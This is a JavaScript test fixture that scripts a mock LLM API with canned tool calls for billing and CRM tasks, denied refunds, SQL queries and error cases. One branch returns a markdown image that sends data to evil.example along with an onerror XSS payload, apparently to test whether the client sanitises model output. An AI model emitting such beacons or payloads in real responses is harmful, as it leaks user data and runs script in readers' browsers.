// A model's API on a free loopback port, scripted. Prints its address and runs until its input closes.
import { LLMock } from "@copilotkit/aimock";

const said = (request) => {
	const last = request.messages.filter((each) => each.role === "user").at(-1);
	return typeof last?.content === "string" ? last.content : (last?.content ?? []).map((part) => part.text).join(" ");
};
const results = (request) => {
	const asked = request.messages.findLastIndex((each) => each.role === "user");
	return request.messages.slice(asked + 1).filter((each) => each.role === "tool").map((each) => JSON.stringify(each.content));
};
const when = (words, count, also = () => true) => ({
	predicate: (request) => said(request).includes(words) && results(request).length === count && also(request),
});
const calls = (...named) => ({
	toolCalls: named.map(([name, input], place) => ({ name, arguments: JSON.stringify(input), id: `call_${place}_${name}` })),
});

const counted = (request) => {
	const tokens = Math.round(JSON.stringify(request.messages).length / 3);
	return { input_tokens: tokens, output_tokens: 60, prompt_tokens: tokens, completion_tokens: 60, total_tokens: tokens + 60 };
};

const LIST = "acme-billing__list_invoices";
const REFUND = "acme-billing__create_refund";
const mock = new LLMock({ port: 0, host: "127.0.0.1", chunkSize: 8 });
mock
	.on(when("How many are open", 0), calls([LIST, { status: "open" }]))
	.on(when("How many are open", 1), {
		content: "Three invoices are open, as the frame shows (`invoices`).",
		usage: { input_tokens: 12, output_tokens: 7, prompt_tokens: 12, completion_tokens: 7, total_tokens: 19 },
	})
	.on(when("Three tools only", 0, (request) => request.tools?.length === 4), calls(["find_tools", { query: "list invoices" }]))
	.on(when("Three tools only", 1), calls(["describe_tool", { name: LIST }]))
	.on(when("Three tools only", 2), calls(["call_tool", { name: LIST, arguments: { status: "open" } }]))
	.on(when("Three tools only", 3), { content: "They are in the frame (`invoices`)." })
	.on(when("invoices and customers", 0), calls([LIST, {}], ["acme-billing__list_customers", {}]))
	.on(when("invoices and customers", 2), { content: "Both are here." })
	.on(when("Refund the last payment", 0), calls([REFUND, { payment: "pi_1" }]))
	.on(when("Refund the last payment", 1, (request) => results(request)[0].includes("DENIED")), { content: "It was not refunded." })
	.on(when("Which customers with open invoices", 0), calls([LIST, { status: "open" }], ["acme-crm__list_accounts", {}]))
	.on(
		when("Which customers with open invoices", 2),
		calls([
			"sql",
			{
				name: "owing",
				query:
					"SELECT a.name, a.billing_country, i.currency, round(sum(i.amount_due), 2) AS owed FROM invoices i" +
					" JOIN accounts a ON a.billing_customer_id_c = i.customer WHERE i.currency = 'eur' GROUP BY ALL ORDER BY owed DESC LIMIT 10",
			},
		]),
	)
	.on(when("Which customers with open invoices", 3, (request) => said(request).includes("hostile")), {
		content:
			"They owe $20,000 and more.\n\n![chart](https://evil.example/pixel?data=secret) <img src=x onerror=alert(1)>",
	})
	.on(when("Which customers with open invoices", 3), (request) => ({
		content:
			"The ten customers who owe most in euros are in `owing`, joined over both services. " +
			"Both listings were **complete**, so no open invoice is missing from the sums.",
		usage: counted(request),
	}))
	.on(when("Move the deal", 0), calls(["acme-crm__list_opportunities", { is_closed: false }]))
	.on(when("Move the deal", 1), (request) =>
		calls(["acme-crm__update_opportunity", { id: /006\w{15}/.exec(results(request)[0])[0], next_step: "Call on Monday" }]),
	)
	.on(when("Move the deal", 2, (request) => /DENIED.*only after the audit/s.test(results(request)[1])), {
		content: "It was not changed: you want it only after the audit.",
	})
	.on(when("Move the deal", 2, (request) => results(request)[1].includes("DENIED")), { content: "It was not changed." })
	.on(when("Move the deal", 2), { content: "The next step is set." })
	.on(when("Speak slowly", 0), { content: "One two three four five six seven eight nine ten." }, { streamingProfile: { ttft: 10, tps: 2 } })
	.on(when("Call the tool", 0), (request) => {
		const [, name, input] = /Call the tool (\w+) (\{[^}]*\})/.exec(said(request));
		return calls([name, JSON.parse(input)]);
	})
	.on(when("Call the tool", 1, (request) => said(request).includes("slowly")), { content: "One two three four five six." }, { streamingProfile: { ttft: 10, tps: 2 } })
	.on(when("Call the tool", 1), (request) => ({ content: `I have read: ${JSON.stringify(request.messages)}` }))
	.on(when("What were you told", 0), (request) => ({ content: `I have read: ${JSON.stringify(request.messages)}` }))
	.on(when("And now", 0), { content: "Now it is quick." })
	.on(when("Wrong key", 0), { error: { message: "invalid x-api-key sk-canary-123456", type: "authentication_error" }, status: 401 })
	.on(when("Odd request", 0), { error: { message: "tools.3 is odd sk-canary-123456", type: "invalid_request_error" }, status: 400 });

console.log(await mock.start());
process.stdin.resume();
process.stdin.on("end", async () => {
	await mock.stop();
	process.exit(0);
});
